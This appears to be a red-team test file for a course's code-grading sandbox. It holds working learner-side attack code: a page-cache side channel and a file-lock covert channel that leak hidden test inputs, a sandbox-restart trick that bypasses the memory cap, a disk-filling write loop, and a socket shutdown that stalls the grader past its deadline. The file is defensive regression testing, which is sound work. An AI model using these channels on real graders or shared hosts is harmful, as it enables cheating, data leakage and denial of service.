"""Red team round rt5 (a): the code-running side, after feedback stopped quoting learners' code.

Numbered tests reproduce a weakness found in this round and assert the SAFE behaviour; they are
strict xfails until fixed. The tests under "Attacks that held" are new attacks the grader
already stops, kept as quick regression checks.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from pruneedu.grading import sandbox

sys.path.insert(0, str(Path(__file__).parent))
from redteam_support import mode, require_bwrap, shown_to_learner  # noqa: E402, F401

FIXTURE = Path(__file__).parent / "fixtures" / "class"


# --- 1. A learner's own process on the grading machine reads hidden inputs in full ----------
# Claim: docs/grading-guarantees.md accepts the page-cache channel only because its bits
# "surface" as a few fixed texts per test ("at most log2(6), about 2.6 bits, per public test per
# grading, against hundreds of characters"), and says the sandbox "cannot reach the grader or
# other processes". docs/jupyterhub.md ("Collect and grade") runs `pruneedu grade` on the hub,
# where every learner has a shell and a notebook server of their own, and nothing in the docs
# says to grade code elsewhere. The page cache is the whole machine's: a reader outside the
# sandbox needs no feedback at all.
# Attack: the learner's hand-in writes every input it is given (public, then hidden) as bits of
# which pages of a big world-readable file under /usr it reads (pages loaded = 1); the function
# still returns the right answer, so the learner loses nothing. The learner's own process on
# the host (here an unprivileged `nobody` process with the system Python, as a hub user would
# be) evicts those pages before grading and afterwards asks the kernel, page by page, whether
# they are cached (preadv2 RWF_NOWAIT: no timing, no noise).
# Measured: the zero-fraction fixture graded with bwrap (grade_code, the grader's own path):
# both hidden inputs come back exactly, as repr text, every try, with full marks.
# Fix ideas: say in docs/grading-guarantees.md and docs/jupyterhub.md that code must be graded
# on a machine (or VM) where no learner runs anything, and copy the collected files off the hub
# first; refusing posix_fadvise/madvise in seccomp alone does not close it (loading a page
# needs only a read, and the learner's own process can evict).
# Outcome: no sandbox can close it (CPU load and memory counters are shared too), so it is a
# documented limit, checked here as a strict xfail: docs/grading-guarantees.md and
# docs/jupyterhub.md say to grade code on a machine no learner uses, and `pruneedu grade`
# refuses to run code while another login user's process runs on the machine
# (tests/test_grading_shared_host.py), unless --shared-host, recorded in gradebook.json.
STRIDE, REGION_BITS, REGIONS = 1 << 16, 8 * 64, 3

SENDER = '''
import os
import numpy as np
FILE, STRIDE, REGION_BITS = {path!r}, {stride}, {region_bits}
_calls = [0]

def _send(text):
    fd = os.open(FILE, os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # one page per read, no read-ahead
    data = text.encode()[:REGION_BITS // 8 - 1]
    data = bytes([len(data)]) + data
    base = STRIDE * (1 + _calls[0] * REGION_BITS)
    for i in range(8 * len(data)):
        if data[i // 8] >> (i % 8) & 1:
            os.pread(fd, 1, base + STRIDE * i)
    os.close(fd)
    _calls[0] += 1

def zero_fraction(weights):
    _send(repr(weights.tolist()))
    return float((weights == 0).mean())  # the right answer: nothing looks wrong
'''

# The learner's own process on the host: stdlib only, run by the system Python as `nobody`.
OBSERVER = '''
import os, sys, time
path, stride, region_bits, regions, what = sys.argv[1:6]
stride, region_bits, regions = int(stride), int(region_bits), int(regions)
fd = os.open(path, os.O_RDONLY)
os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
pages = [stride * (1 + i) for i in range(regions * region_bits)]
if what == "evict":
    for _ in range(2):
        for page in pages:
            os.posix_fadvise(fd, page, 4096, os.POSIX_FADV_DONTNEED)
        time.sleep(0.2)
    sys.exit(0)
def bit(page):
    try:
        os.preadv(fd, [bytearray(1)], page, os.RWF_NOWAIT)
        return 1
    except BlockingIOError:
        return 0
for region in range(regions):
    base = region * region_bits
    length = sum(bit(pages[base + i]) << i for i in range(8))
    data = bytes(sum(bit(pages[base + 8 * (1 + k) + i]) << i for i in range(8))
                 for k in range(length))
    print(data.decode("ascii", "replace"))
'''


def _observer(path: str, what: str) -> list[str]:
    """Run the learner's host process (as `nobody` where the tests run as root)."""
    user = {"user": 65534, "group": 65534} if os.geteuid() == 0 else {}
    done = subprocess.run(["/usr/bin/python3", "-I", "-c", OBSERVER, path, str(STRIDE),
                           str(REGION_BITS), str(REGIONS), what],
                          capture_output=True, text=True, timeout=60, check=True, **user)
    return done.stdout.splitlines()


def _world_readable_big_file() -> str | None:
    from test_redteam_rt2 import _shared_cold_file

    path = _shared_cold_file()
    if path is None or os.stat(path).st_mode & 0o004 == 0:
        return None
    if os.path.getsize(path) < STRIDE * (2 + REGIONS * REGION_BITS):
        return None
    return path


@pytest.mark.xfail(strict=True, reason="documented limit (rt5 finding 1): a learner's own "
                   "process on the grading machine reads hidden inputs from the page cache; "
                   "code is graded only where no learner runs anything, and the CLI refuses "
                   "while it sees one (test_grading_shared_host.py)")
def test_a_learners_process_on_the_grading_machine_cannot_read_hidden_inputs():
    from pruneedu.exercises import load_exercise
    from pruneedu.grading.codegrade import grade_code

    require_bwrap()
    if not Path("/usr/bin/python3").exists():
        pytest.skip("no /usr/bin/python3 to play the learner's own process: test NOT run")
    path = _world_readable_big_file()
    if path is None:
        pytest.skip("no big world-readable file under /usr whose pages this machine evicts on "
                    "request: the page-cache channel cannot be shown here, test NOT run")
    exercise = load_exercise(FIXTURE / "exercises" / "zero-fraction")
    hidden = [repr(case.args[0].tolist()) for case in exercise.hidden_cases()]
    code = SENDER.format(path=path, stride=STRIDE, region_bits=REGION_BITS)
    read = []
    for _try in range(3):  # a side channel: a few tries; one exact read-back is the finding
        _observer(path, "evict")
        result = grade_code(exercise, code, isolation="bwrap")
        assert result.score == result.max_score  # the learner loses nothing by it
        read = _observer(path, "read")
        if read[1:1 + len(hidden)] == hidden:
            break
        time.sleep(0.5)
    assert read[1:1 + len(hidden)] != hidden, read


# --- 2. Restarting the sandbox on purpose multiplies the grader's memory cap per learner ------
# Claim: docs/grading-guarantees.md, "The grader cannot be made to allocate much. A reply is
# refused past 16 MB, the replies of one sandbox past 64 MB in all".
# Attack: the cap is counted per sandbox (_Session.received), and a learner's code restarts its
# sandbox at will: each exercise returns five 8 MB arrays (40 MB, under the cap) and then ends
# its process, so the next exercise starts a fresh sandbox with a fresh 64 MB. run_jobs keeps
# every decoded value of every exercise until it returns (codegrade judges them afterwards).
# Measured: one learner with 4 exercises held 160 MB of decoded outputs at once (6 exercises:
# 240 MB, the grader's peak RSS grew by 305 MB); the course has 8 exercises whose declared
# kinds (array, list of array, module) take such values: about 400 MB per learner, times
# --jobs. Low severity (hundreds of MB, not gigabytes), but the documented cap does not hold.
# Fix ideas: count MAX_SESSION_BYTES per run_jobs call (per learner), not per sandbox; or judge
# each call's value as it arrives and keep only the verdict.
# Fixed: run_jobs carries the count over from one sandbox of a learner to the next.
def test_one_learner_cannot_make_the_grader_hold_more_than_the_session_cap():
    require_bwrap()
    big = '''
import os, numpy as np
_calls = [0]
def f(x):
    _calls[0] += 1
    if _calls[0] > 5:
        os._exit(0)  # a fresh sandbox, with a fresh 64 MB, for the next exercise
    return np.full(8 * 2**20 - 1, _calls[0], dtype=np.uint8)
'''
    jobs = [sandbox.Job(big, "f", [(0,)] * 6, time_limit_s=20, returns="array")
            for _ in range(4)]
    runs = sandbox.run_jobs(jobs, isolation="bwrap")
    held = sum(outcome.value.nbytes for run in runs for outcome in run.outcomes if outcome.ok)
    assert held <= sandbox.MAX_SESSION_BYTES, f"{held / 2**20:.0f} MB held for one learner"


# --- 3. Two live sandboxes still talk, through file locks on shared host files ---------------
# Claim: docs/grading-guarantees.md, with --jobs N "up to N learners' sandboxes run at the same
# time, each as separate as when they run one after another (their own namespaces, scratch and
# channel; tests/test_redteam_processes.py checks that two sandboxes cannot reach each other)".
# Round rt4 passed a hidden input between two live sandboxes through inotify; the fix refused
# inotify_* in seccomp. flock() needs only a file opened for reading, and every sandbox opens
# the same host files (the Python installation, /usr): a lock one sandbox holds is seen at
# once by the other (LOCK_NB fails), whatever the uid (a root grader's sandboxes differ in it).
# Attack: learner A's sandbox, given a hidden input, locks the stdlib files of its bits and a
# marker file; learner B's sandbox, in its PUBLIC call, waits for the marker and tries each
# file: the ones it cannot lock are A's bits. B returns them; B's verdicts (the fixed texts)
# can carry them just as well. No timing, no noise.
# Measured: the secret comes back exactly on the first try, under bubblewrap, in about 3 s.
# Fix idea: seccomp refuses flock and fcntl's F_SETLK/F_SETLKW/F_GETLK/F_OFD_* (no exercise
# needs file locks), as it refuses inotify.
# Fixed: seccomp refuses flock, fcntl's lock commands, leases and F_NOTIFY (dnotify).
LOCK_FILES = ["aifc", "chunk", "cgi", "cgitb", "colorsys", "crypt", "nntplib", "sndhdr",
              "telnetlib"]
LOCK_COMMON = '''
import fcntl, os, time
FILES = [{stdlib!r} + "/" + name + ".py" for name in {files!r}]

def _locked_by_another(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        return False
    except BlockingIOError:
        return True
    finally:
        os.close(fd)
'''
LOCK_RECEIVER = '''
def f(x):
    end = time.monotonic() + 12
    while time.monotonic() < end and not _locked_by_another(FILES[8]):
        time.sleep(0.01)
    return sum(1 << i for i in range(8) if _locked_by_another(FILES[i]))
'''
LOCK_SENDER = '''
_held = []

def f(x):
    if x < 0:
        return 0  # the public call
    for i in [i for i in range(8) if (x >> i) & 1] + [8]:
        fd = os.open(FILES[i], os.O_RDONLY)
        fcntl.flock(fd, fcntl.LOCK_EX)
        _held.append(fd)
    time.sleep(2)
    return 0
'''


def test_two_live_sandboxes_cannot_pass_a_hidden_input_through_file_locks():
    from redteam_support import DISARM, live_pair_leaks

    require_bwrap()
    stdlib = os.path.dirname(os.path.realpath(os.__file__))
    if not all(os.path.isfile(f"{stdlib}/{name}.py") for name in LOCK_FILES):
        pytest.skip("this Python lacks the stdlib files the test locks: test NOT run")
    common = DISARM + LOCK_COMMON.format(stdlib=stdlib, files=LOCK_FILES)
    leaked = live_pair_leaks(common + LOCK_RECEIVER, common + LOCK_SENDER)
    assert not leaked, leaked


# --- 4. Under unsafe-none the scratch has no 64 MB cap: the teacher's disk fills -------------
# Claim: docs/grading-guarantees.md, unsafe-none runs "in a temporary folder that is deleted
# afterwards, with the resource limits above (except the thread count ...)", and the limits
# above are "64 MB a file and 64 MB of scratch". Only RLIMIT_FSIZE (per file) is set there:
# the scratch is a plain folder under the host's /tmp, so its total is the disk's.
# Attack: with the audit hook still ON (writing in the work folder is allowed), the code writes
# five files of 50 MB each.
# Measured: all 250 MB written and the call passes (bwrap: ENOSPC at 64 MB). At disk speed an
# exercise's 10 s deadline fills gigabytes of the teacher's /tmp (or their home's disk), per
# exercise and learner, until grading ends; a SIGKILLed grader leaves it until the next run.
# Fix ideas: under unsafe-none, give the runner a size-capped scratch (a loop-free option:
# check the folder's usage in the grader between calls and fail the job past 64 MB, or refuse
# writes past the cap in the audit hook, knowing that hook is not a boundary); or say in the
# docs that unsafe-none has no scratch cap.
# Outcome: bubblewrap's tmpfs holds the cap; unsafe-none's folder on the host /tmp does not,
# and docs/grading-guarantees.md now says so (only each file is capped there).
def test_the_scratch_is_capped_like_the_documented_limit(mode, request):  # noqa: F811
    from redteam_support import attack, unsafe_none_cannot_stop

    unsafe_none_cannot_stop(mode, "the scratch is a folder on the host's /tmp: only each file "
                            "is capped at 64 MB, not their total (documented)", request)
    code = '''
import os
def f(x):
    total = 0
    for i in range(5):
        with open(f"big{i}.bin", "wb") as out:
            for _ in range(50):
                out.write(bytes(2 ** 20))
        total += os.path.getsize(f"big{i}.bin")
    return total
'''
    run = attack(code, mode, returns="integer")
    written = run.outcomes[0].value if run.outcomes[0].ok else 0
    assert written <= 64 * 2**20, f"{written / 2**20:.0f} MB written to the scratch"


# --- 5. The capstone's sandbox ignores the stop event: Ctrl-C waits for a slow model file ----
# Claim: docs/grading-guarantees.md, "Ctrl-C or a sandbox that cannot start ends every running
# sandbox within about 0.1 s of the grader noticing". parallel.run_learners hands a stop event
# to grade_learner_code, which passes it to run_jobs for function exercises only:
# grade_capstone calls run_calls without it (nor the instructor's time-limit override), so
# the capstone's sandbox, startup included, runs on until its own 60 s deadline.
# Attack: a model file (2.6 KB, sparse zeros) of a LeNet-5 whose layers are as wide as the
# probe's 2 M-number cap allows (conv1 180 channels, conv2 400) keeps the probe computing.
# Measured: stop set 1 s in; grade_learner_code returned a result after 5.3 s here instead of
# raising Stopped (up to the exercise's 60 s on a slow grader, per learner in flight).
# Fix idea: grade_capstone takes ``stop`` (and ``time_limit_s``) and passes them to run_jobs.
# Fixed so.
def test_a_slow_capstone_model_ends_when_grading_is_stopped():
    import io
    import threading

    import numpy as np

    from pruneedu.exercises import load_exercise
    from pruneedu.grading.capstone import encode_file
    from pruneedu.grading.codegrade import grade_learner_code
    from pruneedu.pruning.fileformat import write_arrays

    require_bwrap()
    wide, wider = 180, 400
    shapes = {"conv1.weight": (wide, 1, 5, 5), "conv1.bias": (wide,),
              "conv2.weight": (wider, wide, 5, 5), "conv2.bias": (wider,),
              "fc1.weight": (10, wider * 16), "fc1.bias": (10,),
              "fc2.weight": (10, 10), "fc2.bias": (10,)}
    buffer = io.BytesIO()
    write_arrays({name: np.zeros(shape, np.float32) for name, shape in shapes.items()},
                 buffer, "sparse")
    stop = threading.Event()
    timer = threading.Timer(1.0, stop.set)
    started = time.monotonic()
    timer.start()
    try:
        grade_learner_code([(load_exercise("capstone"), encode_file(buffer.getvalue()))],
                           stop=stop)
    except sandbox.Stopped:
        pass
    finally:
        timer.cancel()
    assert time.monotonic() - started < 2.5


# --- 6. Closing the channel just before the deadline buys 5 s past it, per exercise -----------
# Claim: docs/grading-guarantees.md, "each exercise its own wall-clock deadline (loading and
# every call)"; a sandbox that "stops reading ... fails that exercise with 'timed out'".
# Attack: just before its deadline the code shuts its end of the channel down (the socket is
# on a file descriptor it can find in /proc/self/fd) and keeps sleeping. The grader reads EOF
# and _Session._exit_reason then waits up to 5 s for the process to exit, outside any
# deadline, before it kills the sandbox.
# Measured: a 1 s exercise held the grader 5 s longer than the same code sleeping past its
# deadline (6.1 s against 1.2 s with startup); once per exercise of every learner who does it.
# Low severity (bounded), but no deadline covers those seconds.
# Fix idea: after EOF, kill the sandbox first (close()) and read the exit status afterwards, or
# bound the wait by the job's own deadline.
# Fixed: the wait is bounded by the job's deadline; close() then kills the sandbox.
def test_closing_the_channel_buys_no_time_past_the_deadline():
    from redteam_support import DISARM

    require_bwrap()
    sleeper = "import time\ndef f(x):\n    time.sleep(30)\n"
    closer = DISARM + '''
import os, socket, time
def f(x):
    time.sleep(0.9)
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                socket.socket(fileno=int(name)).shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    time.sleep(30)
'''
    elapsed = []
    for code in (sleeper, closer):
        started = time.monotonic()
        run = sandbox.run_calls(code, "f", [(0,)], time_limit_s=1, isolation="bwrap")
        elapsed.append(time.monotonic() - started)
        assert not run.outcomes[0].ok
    assert elapsed[1] < elapsed[0] + 2, elapsed
